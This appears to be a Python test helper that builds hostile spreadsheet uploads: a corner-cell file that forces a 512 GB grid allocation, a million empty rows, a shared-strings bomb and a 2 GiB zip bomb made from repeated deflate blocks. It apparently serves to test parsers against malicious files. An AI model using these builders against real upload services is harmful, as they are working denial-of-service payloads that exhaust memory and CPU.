"""Hostile spreadsheets, built byte by byte: what an attacker uploads, not what Excel writes.

Each builder returns the bytes of an .xlsx package. The parts are written with
`zipfile`, except the zip bomb, whose one huge part is deflated once and repeated (a
deflate stream flushed with Z_FULL_FLUSH can be concatenated with itself), so a 2 GiB part
costs a second to build instead of ten.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_CT = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    "</Types>"
)
_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'
)
_REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _workbook(names: list[str]) -> str:
    sheets = "".join(
        f'<sheet name="{name}" sheetId="{i}" r:id="rId{i}"/>' for i, name in enumerate(names, start=1)
    )
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{MAIN}" xmlns:r="{_REL_NS}">'
        f"<sheets>{sheets}</sheets></workbook>"
    )


def _workbook_rels(count: int) -> str:
    rels = "".join(
        f'<Relationship Id="rId{i}" Type="{_REL_NS}/worksheet" Target="worksheets/sheet{i}.xml"/>'
        for i in range(1, count + 1)
    )
    rels += f'<Relationship Id="rId{count + 1}" Type="{_REL_NS}/sharedStrings" Target="sharedStrings.xml"/>'
    return (
        '<?xml version="1.0" encoding="UTF-8"?>'
        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{rels}'
        "</Relationships>"
    )


def sheet_xml(body: str, *, dimension: str | None = "A1") -> str:
    dim = f'<dimension ref="{dimension}"/>' if dimension else ""
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{MAIN}">{dim}'
        f"<sheetData>{body}</sheetData></worksheet>"
    )


def shared_strings_xml(strings: list[str]) -> str:
    items = "".join(f"<si><t>{s}</t></si>" for s in strings)
    n = len(strings)
    return f'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="{MAIN}" count="{n}" uniqueCount="{n}">{items}</sst>'


def package(
    sheets: dict[str, str | bytes],
    *,
    shared_strings: str | bytes | None = None,
    extra: dict[str, bytes] | None = None,
) -> bytes:
    """An .xlsx of the given sheets (name -> sheet XML), in that order."""
    out = io.BytesIO()
    names = list(sheets)
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", _CT)
        zf.writestr("_rels/.rels", _RELS)
        zf.writestr("xl/workbook.xml", _workbook(names))
        zf.writestr("xl/_rels/workbook.xml.rels", _workbook_rels(len(names)))
        for i, name in enumerate(names, start=1):
            zf.writestr(f"xl/worksheets/sheet{i}.xml", sheets[name])
        zf.writestr("xl/sharedStrings.xml", shared_strings or shared_strings_xml(["nik"]))
        for part, data in (extra or {}).items():
            zf.writestr(part, data)
    return out.getvalue()


def corner_cells(sheet: str = "Sheet1") -> bytes:
    """The 1.9 KB file of the report: a value at A1 and one at XFD1048576, the last cell of
    a sheet. A reader that makes a dense grid of the used range asks for 512 GB."""
    body = (
        '<row r="1"><c r="A1" t="s"><v>0</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    )
    return package({sheet: sheet_xml(body, dimension="A1:XFD1048576")})


def empty_rows(count: int = 1_000_000, sheet: str = "Sheet1") -> bytes:
    """A header cell, then `count` empty rows (what formatting whole rows leaves behind)."""
    body = '<row r="1"><c r="A1" t="s"><v>0</v></c></row>' + "".join(
        f'<row r="{r}"/>' for r in range(2, count + 1)
    )
    return package({sheet: sheet_xml(body, dimension=f"A1:A{count}")})


def shared_strings_bomb(count: int = 50_000_000, sheet: str = "Sheet1") -> bytes:
    """A sheet of one cell and a shared-string table of `count` empty strings (650 MB for
    50 million, deflated to a few hundred KB): a reader keeps them all in memory."""
    head = f'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="{MAIN}" count="{count}" uniqueCount="{count}">'
    table = _repeat_deflated(head.encode(), b"<si><t/></si>", count, b"</sst>")
    body = '<row r="1"><c r="A1" t="s"><v>0</v></c></row>'
    return _raw_package({sheet: sheet_xml(body).encode()}, {"xl/sharedStrings.xml": table})


def zip_bomb(size: int = 2 * 1024**3 - 1, sheet: str = "Sheet1") -> bytes:
    """A worksheet part that inflates to `size` bytes (2 GiB by default) of blanks inside
    <sheetData>: no cell at all, just work for whoever inflates it."""
    head = sheet_xml("").encode().split(b"</sheetData>")[0]
    tail = b"</sheetData></worksheet>"
    blanks = size - len(head) - len(tail)
    return _raw_package({sheet: _repeat_deflated(head, b" ", blanks, tail)})


class _Deflated:
    """A part already deflated: (compressed bytes, uncompressed size, CRC-32)."""

    def __init__(self, data: bytes, size: int, crc: int) -> None:
        self.data, self.size, self.crc = data, size, crc


def _repeat_deflated(head: bytes, unit: bytes, times: int, tail: bytes) -> _Deflated:
    block_units = max(1, (1 << 20) // len(unit))
    block = unit * block_units
    full, rest = divmod(times, block_units)
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = comp.compress(head) + comp.flush(zlib.Z_FULL_FLUSH)
    # After a full flush the compressor starts afresh, so the same input gives the same bytes.
    seg = comp.compress(block) + comp.flush(zlib.Z_FULL_FLUSH)
    if full > 1:
        comp.compress(block)
        again = comp.flush(zlib.Z_FULL_FLUSH)
        assert again == seg
    last = comp.compress(unit * rest + tail) + comp.flush(zlib.Z_FINISH)
    crc = zlib.crc32(head)
    block_crc_state = crc
    for _ in range(full):
        block_crc_state = zlib.crc32(block, block_crc_state)
    crc = zlib.crc32(unit * rest + tail, block_crc_state)
    size = len(head) + full * len(block) + rest * len(unit) + len(tail)
    return _Deflated(first + seg * full + last, size, crc)


def _raw_package(
    sheets: dict[str, bytes | _Deflated], extra: dict[str, bytes | _Deflated] | None = None
) -> bytes:
    """Like `package`, but parts may be pre-deflated (`_Deflated`); written by hand because
    zipfile cannot store data it did not compress itself."""
    names = list(sheets)
    parts: list[tuple[str, bytes | _Deflated]] = [
        ("[Content_Types].xml", _CT.encode()),
        ("_rels/.rels", _RELS.encode()),
        ("xl/workbook.xml", _workbook(names).encode()),
        ("xl/_rels/workbook.xml.rels", _workbook_rels(len(names)).encode()),
    ]
    parts += [(f"xl/worksheets/sheet{i}.xml", sheets[n]) for i, n in enumerate(names, start=1)]
    extra = dict(extra or {})
    if "xl/sharedStrings.xml" not in extra:
        extra["xl/sharedStrings.xml"] = shared_strings_xml(["nik"]).encode()
    parts += list(extra.items())
    out = io.BytesIO()
    central = io.BytesIO()
    for name, content in parts:
        if isinstance(content, _Deflated):
            data, size, crc = content.data, content.size, content.crc
        else:
            comp = zlib.compressobj(6, zlib.DEFLATED, -15)
            data = comp.compress(content) + comp.flush()
            size, crc = len(content), zlib.crc32(content)
        encoded = name.encode()
        offset = out.tell()
        out.write(
            struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 8, 0, 0x21, crc, len(data), size, len(encoded), 0)
        )
        out.write(encoded)
        out.write(data)
        central.write(
            struct.pack(
                "<4s6H3L5H2L",
                b"PK\x01\x02",
                20,
                20,
                0,
                8,
                0,
                0x21,
                crc,
                len(data),
                size,
                len(encoded),
                0,
                0,
                0,
                0,
                0,
                offset,
            )
        )
        central.write(encoded)
    start = out.tell()
    directory = central.getvalue()
    out.write(directory)
    out.write(struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, len(parts), len(parts), len(directory), start, 0))
    return out.getvalue()
